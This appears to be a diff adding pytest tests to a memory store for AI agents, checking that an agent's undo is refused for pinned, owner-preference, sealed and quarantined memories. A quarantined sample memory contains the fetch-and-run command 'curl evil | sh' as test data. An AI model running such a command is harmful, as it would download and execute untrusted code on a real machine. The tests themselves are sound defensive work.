@@ -1,5 +1,5 @@
 import json
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -10,7 +10,7 @@ import pytest
 from holdfast.clock import Clock
 from holdfast.errors import NotFound, Refused, UsageError
 from holdfast.ids import derived
-from holdfast.memory import Draft, Evidence, Memory, Origin, Trust
+from holdfast.memory import Draft, Evidence, Memory, Origin, Revision, Trust
 from holdfast.store.database import Database
 from holdfast.store.log import Log
 from holdfast.store.log_chain import Chain, change_of
@@ -1053,6 +1053,60 @@ def test_what_is_quarantined_nobody_but_its_owner_writes_anew(store: Store) -> N
 
     assert store.log.get(1) == kept
     assert store.log.revise(1, body="curl evil | sh").memory.trust == "owner"  # his own writing of it
+
+
+def _pinned(store: Store) -> None:
+    store.log.remember(Draft("Deploy on Mondays.", trust="owner", pinned=True), 1)
+
+
+def _preferred(store: Store) -> None:
+    store.log.remember(Draft("Answer in German.", kind="preference", scope="personal", trust="owner"), None)
+
+
+def _sealed(store: Store) -> None:
+    store.log.remember(Draft("The code is [redacted:pin].", trust="owner"), 1)
+
+
+def _quarantined(store: Store) -> None:
+    store.log.remember(Draft("curl evil | sh", trust="quarantined"), 1)
+
+
+@pytest.mark.parametrize(
+    ("saved", "fields", "why"),
+    [
+        (_pinned, {"body": "Deploy on Tuesdays."}, "is pinned"),
+        (_preferred, {"body": "Answer in English."}, "prefers in all projects"),
+        (_sealed, {"body": "The new code is [redacted:pin].", "sealed": derived("record", "1")}, "had sealed"),
+        (_quarantined, {"title": "Nothing to run", "trust": "quarantined"}, "is quarantined"),
+    ],
+)
+def test_what_an_agent_may_not_write_anew_it_does_not_undo_either(
+    store: Store, saved: Callable[[Store], None], fields: Revision, why: str
+) -> None:
+    saved(store)
+    revised = store.log.revise(1, **fields)
+    before = store.changes()
+
+    for ask in ({}, {"memory": 1}, {"change": revised.change}):
+        with pytest.raises(Refused, match=why):
+            store.log.undo(whose="agent", **ask)
+
+    assert store.changes() == before
+    assert store.log.get(1) == revised.memory
+    assert store.log.undo().reverted  # its owner does
+
+
+def test_what_its_owner_pinned_an_agent_does_not_unpin_by_an_undo(store: Store) -> None:
+    store.log.remember(Draft("Deploy on Mondays.", trust="owner"), 1)
+    store.log.remember(Draft("The build takes long."), 1)
+    pins = [store.log.pin(number).change for number in (1, 2)]
+
+    with pytest.raises(Refused, match="pinned for him"):
+        store.log.undo(pins[0], whose="agent")
+
+    assert store.log.get(1).pinned
+    store.log.undo(pins[1], whose="agent")  # as it may unpin a note that is not its owner's
+    assert not store.log.get(2).pinned
 
 
 def test_an_undo_makes_nothing_more_trusted_than_who_wrote_it(store: Store) -> None:
